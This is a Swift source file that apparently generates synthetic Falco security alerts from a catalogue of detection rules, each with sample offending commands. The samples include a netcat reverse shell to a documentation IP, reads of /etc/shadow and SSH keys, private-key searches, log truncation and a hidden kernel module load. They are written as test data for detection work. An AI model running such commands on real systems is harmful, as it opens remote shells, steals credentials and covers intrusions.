// SPDX-License-Identifier: Apache-2.0

/// The rules whose alerts are made: names and priorities users of Falco know, texts of our own.
struct GeneratedRule: Sendable {
    /// What the alert is about, which decides its fields.
    enum Subject: Sendable {
        case process(commands: [String])
        case file(names: [String], command: String)
        case connection(commands: [String])
        case audit(verb: String, resource: String)
        case cloud(event: String, service: String)
    }

    let name: String
    /// 0 Emergency … 7 Debug.
    let priority: UInt8
    /// How often it fires, relative to the others.
    let weight: Int
    let tags: [String]
    let subject: Subject
    /// What the output line begins with.
    let lead: String

    var source: String {
        switch subject {
        case .process, .file, .connection: "syscall"
        case .audit: "k8s_audit"
        case .cloud: "aws_cloudtrail"
        }
    }

    static let catalogue: [GeneratedRule] = [
        GeneratedRule(
            name: "Terminal shell in container", priority: 5, weight: 8,
            tags: ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
            subject: .process(commands: ["bash", "sh -i", "bash -il"]),
            lead: "A shell with a terminal was started in a container"),
        GeneratedRule(
            name: "Read sensitive file untrusted", priority: 4, weight: 20,
            tags: ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
            subject: .file(names: ["/etc/shadow", "/etc/sudoers", "/root/.ssh/id_ed25519"], command: "cat"),
            lead: "A sensitive file was opened for reading by a program that is not trusted"),
        GeneratedRule(
            name: "Write below etc", priority: 3, weight: 24,
            tags: ["T1098", "container", "filesystem", "host", "mitre_persistence"],
            subject: .file(
                names: ["/etc/ld.so.cache", "/etc/resolv.conf", "/etc/cron.d/refresh", "/etc/nginx/conf.d/été.conf"],
                command: "cp -f"),
            lead: "A file below /etc was opened for writing"),
        GeneratedRule(
            name: "Contact K8S API Server From Container", priority: 5, weight: 120,
            tags: ["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
            subject: .connection(commands: [
                "kubectl get pods -o json", "argocd-repo-server", "python3 /app/watch.py --leader",
                "vault-agent -config=/etc/vault/agent.hcl",
            ]),
            lead: "The Kubernetes API server was contacted from a container"),
        GeneratedRule(
            name: "Unexpected outbound connection", priority: 4, weight: 36,
            tags: ["T1071", "container", "mitre_command_and_control", "network"],
            subject: .connection(commands: [
                "wget -q -O - http://198.51.100.23/health", "curl -sS https://203.0.113.10/api/v1/report",
            ]),
            lead: "A connection to an unexpected destination was opened"),
        GeneratedRule(
            name: "Launch Package Management Process in Container", priority: 3, weight: 16,
            tags: ["T1505", "container", "mitre_persistence", "process"],
            subject: .process(commands: ["apt-get update", "apk add curl", "pip install requests"]),
            lead: "A package manager was started in a container"),
        GeneratedRule(
            name: "Drop and execute new binary in container", priority: 2, weight: 1,
            tags: ["PCI_DSS_11.5.1", "TA0003", "container", "maturity_stable", "mitre_persistence", "process"],
            subject: .process(commands: ["/tmp/.x/kinsing", "/dev/shm/a.out --quiet"]),
            lead: "A program that is not part of the image was executed"),
        GeneratedRule(
            name: "Clear Log Activities", priority: 4, weight: 6,
            tags: ["T1070", "container", "filesystem", "host", "mitre_defense_evasion"],
            subject: .file(names: ["/var/log/syslog", "/var/log/auth.log"], command: "truncate -s 0"),
            lead: "A log file was emptied"),
        GeneratedRule(
            name: "Non sudo setuid", priority: 5, weight: 40,
            tags: ["T1548", "container", "host", "mitre_privilege_escalation", "users"],
            subject: .process(commands: ["su - app", "gosu postgres postgres"]),
            lead: "The user changed without sudo"),
        GeneratedRule(
            name: "Redirect STDOUT/STDIN to Network Connection in Container", priority: 5, weight: 3,
            tags: ["T1059", "container", "mitre_execution", "network", "process"],
            subject: .connection(commands: ["nc 203.0.113.7 4444 -e /bin/sh"]),
            lead: "Standard streams were tied to a connection"),
        GeneratedRule(
            name: "Run shell untrusted", priority: 5, weight: 60,
            tags: ["T1059.004", "container", "host", "maturity_stable", "mitre_execution", "process", "shell"],
            subject: .process(commands: [
                "sh -c \"ps aux | grep -v 'grep'\"", "sh -c /healthcheck.sh", "dash -c \"df -h > /tmp/df\"",
            ]),
            lead: "A shell was started by a program that should not"),
        GeneratedRule(
            name: "System user interactive", priority: 6, weight: 10,
            tags: ["T1059", "container", "host", "maturity_stable", "mitre_execution", "users"],
            subject: .process(commands: ["login -p --", "su www-data -s /bin/sh"]),
            lead: "A system user ran an interactive command"),
        GeneratedRule(
            name: "Search Private Keys or Passwords", priority: 4, weight: 5,
            tags: ["T1552.001", "container", "filesystem", "maturity_stable", "mitre_credential_access", "process"],
            subject: .process(commands: ["grep -ri \"BEGIN RSA PRIVATE\" /", "find / -name id_rsa"]),
            lead: "Somebody looks for keys or passwords"),
        GeneratedRule(
            name: "Directory traversal monitored file read", priority: 4, weight: 4,
            tags: ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
            subject: .file(
                names: ["/var/www/../../etc/passwd", "/srv/app/../../../etc/shadow"], command: "nginx: worker process"),
            lead: "A monitored file was read through a traversing path"),
        GeneratedRule(
            name: "Packet socket created in container", priority: 5, weight: 12,
            tags: ["T1557.002", "container", "maturity_stable", "mitre_credential_access", "network"],
            subject: .process(commands: ["tcpdump -i any -w /tmp/cap.pcap", "keepalived -n -l"]),
            lead: "A packet socket was created in a container"),
        GeneratedRule(
            name: "PTRACE attached to process", priority: 4, weight: 3,
            tags: ["T1055.008", "container", "host", "maturity_stable", "mitre_privilege_escalation", "process"],
            subject: .process(commands: ["strace -f -p 1", "gdb -p 4242"]),
            lead: "A process was attached to with ptrace"),
        GeneratedRule(
            name: "Create Symlink Over Sensitive Files", priority: 4, weight: 4,
            tags: ["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
            subject: .file(names: ["/etc/shadow", "/etc/passwd"], command: "ln -s"),
            lead: "A link to a sensitive file was made"),
        GeneratedRule(
            name: "Fileless execution via memfd_create", priority: 2, weight: 1,
            tags: ["T1620", "container", "host", "maturity_stable", "mitre_defense_evasion", "process"],
            subject: .process(commands: ["/memfd:runc init", "/memfd:kworker -d"]),
            lead: "A program was executed from memory"),
        GeneratedRule(
            name: "Linux Kernel Module Injection Detected", priority: 4, weight: 1,
            tags: ["TA0004", "container", "host", "maturity_stable", "process"],
            subject: .process(commands: ["insmod /tmp/hide.ko", "modprobe -f overlay"]),
            lead: "A kernel module was loaded from a container"),
        GeneratedRule(
            name: "Disallowed SSH Connection Non Standard Port", priority: 5, weight: 8,
            tags: ["T1059", "container", "host", "maturity_stable", "mitre_execution", "network", "process"],
            subject: .connection(commands: ["ssh -p 2222 deploy@203.0.113.90"]),
            lead: "An SSH connection went to a port that is not its own"),
        GeneratedRule(
            name: "Change thread namespace", priority: 5, weight: 30,
            tags: ["T1611", "container", "host", "maturity_sandbox", "mitre_privilege_escalation", "process"],
            subject: .process(commands: ["nsenter -t 1 -m -u -i -n", "runc init"]),
            lead: "The namespace of a thread was changed"),
        GeneratedRule(
            name: "Set Setuid or Setgid bit", priority: 5, weight: 8,
            tags: ["T1548.001", "container", "filesystem", "host", "mitre_privilege_escalation", "process", "users"],
            subject: .file(names: ["/usr/local/bin/app", "/tmp/rootsh"], command: "chmod u+s"),
            lead: "The setuid or setgid bit of a file was set"),
        GeneratedRule(
            name: "System procs network activity", priority: 7, weight: 14,
            tags: ["T1059", "container", "host", "maturity_sandbox", "mitre_execution", "network"],
            subject: .connection(commands: ["ls --color=auto", "sort -u /tmp/list"]),
            lead: "A program that has nothing to do with networks opened a connection"),
        GeneratedRule(
            name: "Attach/Exec Pod", priority: 5, weight: 8,
            tags: ["k8s", "mitre_execution"],
            subject: .audit(verb: "create", resource: "pods/exec"),
            lead: "Somebody attached to a pod"),
        GeneratedRule(
            name: "K8s Secret Get Successfully", priority: 3, weight: 18,
            tags: ["k8s", "mitre_credential_access"],
            subject: .audit(verb: "get", resource: "secrets"),
            lead: "A secret was read"),
        GeneratedRule(
            name: "K8s Serviceaccount Created", priority: 6, weight: 10,
            tags: ["k8s", "mitre_persistence"],
            subject: .audit(verb: "create", resource: "serviceaccounts"),
            lead: "A service account was created"),
        GeneratedRule(
            name: "ClusterRole With Wildcard Created", priority: 4, weight: 2,
            tags: ["k8s", "mitre_privilege_escalation"],
            subject: .audit(verb: "create", resource: "clusterroles"),
            lead: "A cluster role with wildcards was created"),
        GeneratedRule(
            name: "Console Login Without MFA", priority: 2, weight: 2,
            tags: ["aws", "aws_console", "mitre_initial_access"],
            subject: .cloud(event: "ConsoleLogin", service: "signin.amazonaws.com"),
            lead: "A console login without a second factor"),
        GeneratedRule(
            name: "CloudTrail Logging Disabled", priority: 1, weight: 1,
            tags: ["aws", "aws_cloudtrail", "mitre_defense_evasion"],
            subject: .cloud(event: "StopLogging", service: "cloudtrail.amazonaws.com"),
            lead: "The trail was switched off"),
    ]

    static func named(_ name: String) -> GeneratedRule {
        guard let rule = catalogue.first(where: { $0.name == name }) else {
            preconditionFailure("no rule \(name) in the catalogue")
        }
        return rule
    }
}
